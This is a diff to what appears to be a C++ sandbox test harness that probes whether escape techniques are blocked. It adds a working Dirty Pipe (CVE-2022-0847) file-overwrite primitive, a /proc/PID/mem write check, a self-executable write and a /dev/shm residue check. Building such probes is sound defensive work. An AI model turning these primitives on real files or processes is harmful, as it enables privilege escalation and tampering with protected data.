@@ -1,8 +1,11 @@
 #include <dirent.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <sys/mman.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <cstdio>
@@ -128,9 +131,65 @@ Verdict find_the_cgroup_tree(const std::string&) {
   return achieved_if("reaching /sys/fs/cgroup (release_agent)", found);
 }
 
-Verdict write_own_program(const std::string&) {
-  const int fd = ::open("/proc/self/exe", O_RDWR | O_CLOEXEC);
-  return achieved_if("writing the running program", fd >= 0);
+// `argument` "copy": a copy that does not run, which is the job's to write.
+Verdict write_own_program(const std::string& argument) {
+  if (argument.empty()) {
+    const int fd = ::open("/proc/self/exe", O_RDWR | O_CLOEXEC);
+    return achieved_if("writing the running program", fd >= 0);
+  }
+  const int out = ::open("/tmp/copy", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
+  if (!copy_own_program(out)) return say("copying", Verdict::impossible);
+  ::close(out);
+  return achieved_if("writing a copy", ::open("/tmp/copy", O_RDWR | O_CLOEXEC) >= 0);
+}
+
+// `argument`: a name in /dev/shm. With "leave:" before it, leaves such a file behind.
+Verdict find_what_another_run_left(const std::string& argument) {
+  constexpr std::string_view leave = "leave:";
+  if (argument.starts_with(leave)) {
+    return achieved_if("leaving a file in /dev/shm",
+                       ::open(("/dev/shm/" + argument.substr(leave.size())).c_str(),
+                              O_WRONLY | O_CREAT | O_CLOEXEC, 0666) >= 0);
+  }
+  return achieved_if("a file of another run in /dev/shm",
+                     ::access(("/dev/shm/" + argument).c_str(), F_OK) == 0);
+}
+
+// CVE-2022-0847: a pipe whose pages still said that they may be merged let a file open for reading
+// be written. `argument` "write": the same through a descriptor that may write, to see a change.
+Verdict write_through_a_pipe(const std::string& argument) {
+  const char* path = "/tmp/read-only";
+  const int out = ::open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
+  if (::write(out, "original", 8) != 8) return say("making a file", Verdict::impossible);
+  const int in = ::open(path, O_RDONLY | O_CLOEXEC);
+  int ends[2];
+  if (in < 0 || ::pipe(ends) != 0) return say("a pipe", Verdict::impossible);
+  static char page[4096];
+  const int pages = ::fcntl(ends[1], F_GETPIPE_SZ) / static_cast<int>(sizeof page);
+  for (int i = 0; i < pages; ++i) (void)!::write(ends[1], page, sizeof page);
+  for (int i = 0; i < pages; ++i) (void)!::read(ends[0], page, sizeof page);
+  loff_t from = 0;
+  if (::splice(in, &from, ends[1], nullptr, 1, 0) != 1) return say("splice", Verdict::blocked);
+  (void)!::write(ends[1], "FORGED", 6);
+  if (argument == "write") (void)!::pwrite(out, "FORGED", 6, 1);
+  char now[9] = {};
+  (void)!::pread(in, now, 8, 0);
+  return achieved_if("changing a file that is open for reading",
+                     std::string_view(now) != "original");
+}
+
+// A process may look at its children; it must not write them past every record.
+Verdict write_through_proc_mem(const std::string&) {
+  const pid_t child = ::fork();
+  if (child == 0) {
+    ::prctl(PR_SET_PDEATHSIG, SIGKILL);
+    for (;;) ::pause();
+  }
+  const std::string path = "/proc/" + std::to_string(child) + "/mem";
+  const int memory = ::open(path.c_str(), O_RDWR | O_CLOEXEC);
+  ::kill(child, SIGKILL);
+  ::waitpid(child, nullptr, 0);
+  return achieved_if("opening /proc/PID/mem for writing", memory >= 0);
 }
 
 // The file system forgets a set-user-id bit, or exec does.
@@ -183,6 +242,9 @@ constexpr Attack attacks[] = {
     {"proc_settings", write_system_settings},
     {"cgroup_tree", find_the_cgroup_tree},
     {"own_program", write_own_program},
+    {"shm_residue", find_what_another_run_left},
+    {"dirty_pipe", write_through_a_pipe},
+    {"proc_mem", write_through_proc_mem},
     {"setuid", run_a_setuid_copy},
     {"lax_mount", find_a_lax_mount},
 };
